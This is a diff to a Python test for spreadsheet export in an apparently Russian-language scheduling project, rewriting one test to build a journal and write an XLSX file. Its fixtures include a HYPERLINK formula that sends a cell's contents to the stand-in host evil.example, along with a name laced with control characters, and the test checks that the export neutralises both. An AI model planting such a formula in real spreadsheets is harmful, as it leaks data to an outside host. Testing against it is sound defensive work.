@@ -15,7 +15,6 @@ from opora.core.exports import write_row
 from opora.scheduling.calendar import local_now
 from opora.scheduling.services import handoff_workbook
 from opora.scheduling.tests.factories import make_request
-from opora.web.registries import registry_workbook
 
 FORMULA = '=HYPERLINK("http://evil.example/?d="&D2,"Открыть")'
 BELL_NAME = "Иванова\x07 Анна\x1b Петровна"
@@ -74,7 +73,25 @@ def test_journal_export_writes_plain_text():
 
 
 def test_registry_export_writes_plain_text():
-    data = registry_workbook(registry="requests", rows=[[1, "05.12.2026", FORMULA, BELL_NAME]])
+    import datetime as dt
+    from types import SimpleNamespace
+
+    from opora.journals.catalogue import REQUESTS_002
+    from opora.journals.documents import write_xlsx
+    from opora.journals.selectors import Journal
+
+    journal = Journal(
+        form=REQUESTS_002,
+        service=SimpleNamespace(name="Служба", code="s"),
+        date_from=dt.date(2026, 12, 1),
+        date_to=dt.date(2026, 12, 5),
+        coded=False,
+        count=1,
+        rows=iter([[1, "05.12.2026", FORMULA, BELL_NAME]]),
+    )
+    out = io.BytesIO()
+    write_xlsx(journal, out)
+    data = out.getvalue()
     _assert_plain(data)
     assert _cells(data)[2][3].value == "Иванова Анна Петровна"
 
